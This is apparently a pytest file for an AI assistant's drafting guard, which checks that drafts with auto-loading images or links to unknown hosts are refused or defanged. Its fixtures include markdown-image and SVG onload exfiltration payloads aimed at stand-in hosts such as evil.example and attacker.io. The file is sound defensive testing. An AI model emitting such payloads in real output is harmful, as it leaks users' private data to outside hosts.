"""Output never carries an image that loads on sight, or a link to a host the user never named."""

from __future__ import annotations

import pytest

from assistant.drafting.guard import Guard, Limits
from assistant.drafting.links import active_content, inert, link_hosts

NOTES = ["Ana shared https://blog.acmehealth.com/marathon-training last week."]


@pytest.mark.parametrize("text", [
    "Hi Ana! ![x](http://evil.example/?q=notes)",
    "Hi Ana ![](https://blog.acmehealth.com/pixel.png)",  # even a known host: images load
    'Hi Ana <img src="http://evil.example/p.gif">',
    "Hi Ana, <svg onload=fetch('//evil.example')>",
])
def test_images_are_always_refused(text: str) -> None:
    assert any("image" in p for p in active_content(text, NOTES))


@pytest.mark.parametrize(("text", "host"), [
    ("See http://evil.example/?q=ZEBRA", "evil.example"),
    ("Read [this](https://attacker.io/x)", "attacker.io"),
    ('Here: <a href="http://evil.example/">link</a>', "evil.example"),
    ("Visit www.phish.example today", "phish.example"),
    ("Try HTTPS://EVIL.EXAMPLE:8443/a", "evil.example"),
])
def test_links_to_hosts_in_no_note_are_refused(text: str, host: str) -> None:
    problems = active_content(text, NOTES)
    assert problems and host in problems[0]


def test_links_to_the_users_own_hosts_pass() -> None:
    text = "Loved the piece at https://blog.acmehealth.com/marathon-training, Ana."
    assert active_content(text, NOTES) == []
    assert link_hosts(text) == {"blog.acmehealth.com"}


def test_plain_text_has_no_active_content() -> None:
    assert active_content("Hi Ana, how did the Chicago marathon go? 3/4 done.", NOTES) == []


def test_the_guard_sets_aside_a_draft_with_an_exfiltration_image() -> None:
    problems = Guard().problems("Hi Ana! ![x](http://evil.example/?q=marathon)", NOTES,
                                Limits(max_chars=300))
    assert any("image" in p for p in problems)


def test_inert_drops_images_and_defangs_unknown_links_only() -> None:
    text = ("Hi Ana ![x](http://evil.example/?q=1) <img src=x> see http://evil.example/a, "
            "https://blog.acmehealth.com/marathon-training and [p](https://attacker.io/y)")
    safe = inert(text, NOTES)
    assert active_content(safe, NOTES) == []
    assert "https://blog.acmehealth.com/marathon-training" in safe  # the user's own link stays
    assert "evil[.]example/a" in safe and "attacker[.]io/y" in safe
    assert "<img" not in safe and "![" not in safe
    assert inert("Hi Ana, how was Chicago?", NOTES) == "Hi Ana, how was Chicago?"
